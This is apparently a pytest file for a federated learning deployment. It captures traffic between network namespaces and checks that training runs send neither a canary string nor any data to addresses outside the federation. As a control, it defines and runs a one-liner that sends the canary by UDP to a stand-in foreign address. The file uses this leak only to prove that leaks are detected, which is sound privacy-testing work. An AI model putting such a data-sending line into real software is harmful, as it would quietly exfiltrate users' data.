"""Between network namespaces: all that passes on every interface of every machine, searched for people's words and for
addresses that aren't the federation's."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from contextlib import ExitStack, suppress
from pathlib import Path

import numpy as np
import pytest

pytest.importorskip("flwr")
pytest.importorskip("torch")

from edgeperso_federated.deploy.commands import (
    Connection,
    finished,
    local_connection,
    simulation_environment,
    start_run,
    superlink,
)
from edgeperso_federated.deploy.processes import Process
from edgeperso_federated.errors import FederationError
from edgeperso_federated.update import Update, update_from_bytes

from .broker_world import CANARY
from .deployment import APP, RUN, federation
from .namespaces import NET, OUT, Tap, holds, holds_in_values, spaces, spoken_to, why_not

pytestmark = [pytest.mark.deployment, pytest.mark.skipif((why := why_not()) is not None, reason=str(why))]

FOREIGN = "203.0.113.7"
LEAK = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({CANARY.encode()!r}, ({FOREIGN!r}, 9))"


def body_of(answer: bytes) -> bytes:
    """Of a frame of the broker's."""
    return answer[16 + int.from_bytes(answer[4:8], "little") :]


def test_a_run_between_machines_tells_nothing_and_calls_nobody(tmp_path: Path) -> None:
    taps: list[Tap] = []
    with ExitStack() as stack:
        net = stack.enter_context(spaces(tmp_path, 2))

        def tap(broker: Path) -> Path:
            taps.append(Tap(broker))
            stack.enter_context(taps[-1].listening())
            return taps[-1].path

        made = stack.enter_context(
            federation(
                tmp_path, 2, place=net.inside, host=f"{NET}.1", ask=("ip", "netns", "exec", net.names[0]), tap=tap
            )
        )
        config = RUN | {"model": str(made.model), "folder": str(made.run_folder), "rounds": 2}
        found = finished(made.connection, start_run(made.connection, APP, config), timeout_s=150)
        assert found.completed, made.logs()
        time.sleep(1)
        seen = [(path.read_bytes(), spoken_to(path)) for path in net.captures]
        # The search finds what is there: a leak to a foreign address.
        for person in (None, 0):
            subprocess.run(net.inside(person, [sys.executable, "-c", LEAK]), check=True)
        time.sleep(1)
        for leaked in net.captures[:2]:
            assert FOREIGN in spoken_to(leaked) - net.addresses
            assert holds(leaked.read_bytes(), CANARY)
    rounds = [json.loads(line) for line in (made.run_folder / "rounds.jsonl").read_text().splitlines()]
    assert [one["summed"] for one in rounds] == [2, 2]
    for data, addresses in seen:
        assert not holds(data, CANARY)
        assert {f"{NET}.1"} <= addresses <= net.addresses
    updates = [update_from_bytes(body_of(said)) for one in taps for said in one.said]
    assert len(updates) == 4
    assert not any(holds(said, CANARY) for one in taps for said in one.said)
    assert not any(holds_in_values(update, CANARY) for update in updates)


def test_the_search_finds_words_in_tensors() -> None:
    letters = np.frombuffer(CANARY.encode(), np.uint8).astype(np.float32)
    assert holds_in_values(Update({"x": letters / 1024}, 1, {}), CANARY)
    padded = CANARY.encode() + b" " * (-len(CANARY) % 4)
    assert holds_in_values(Update({"x": np.frombuffer(padded, "<f4").copy()}, 1, {}), CANARY)
    assert not holds_in_values(Update({"x": letters[::2].copy()}, 1, {}), CANARY)


def test_flowers_simulation_calls_nobody(tmp_path: Path, tiny_path: Path) -> None:
    """Ray's probes of clouds' metadata addresses included."""
    pytest.importorskip("ray")
    env = simulation_environment(tmp_path / "flwr")
    with spaces(tmp_path, 0) as net:
        command = superlink(host="127.0.0.1", port=9391, certificates=None, database=None, simulation=True)
        with Process(net.inside(None, command), env, tmp_path / "link.log"):
            through = ("ip", "netns", "exec", net.names[0])
            made = local_connection("here", env, address="127.0.0.1:9391", authority=None, through=through)
            config = {"model": str(tiny_path), "folder": str(tmp_path / "run")}
            found = finished(made, _started(made, config), timeout_s=120)
        time.sleep(1)
        assert found.completed, (tmp_path / "link.log").read_text()
        assert spoken_to(net.captures[0]) <= net.addresses | {f"{OUT}.1"}


def _started(connection: Connection, config: dict[str, str], tries: int = 10) -> str:
    """The server may not listen yet."""
    for _ in range(tries):
        with suppress(FederationError):
            return start_run(connection, Path(__file__).parent / "flower_app", config, clients=2)
    raise AssertionError("the server didn't start")
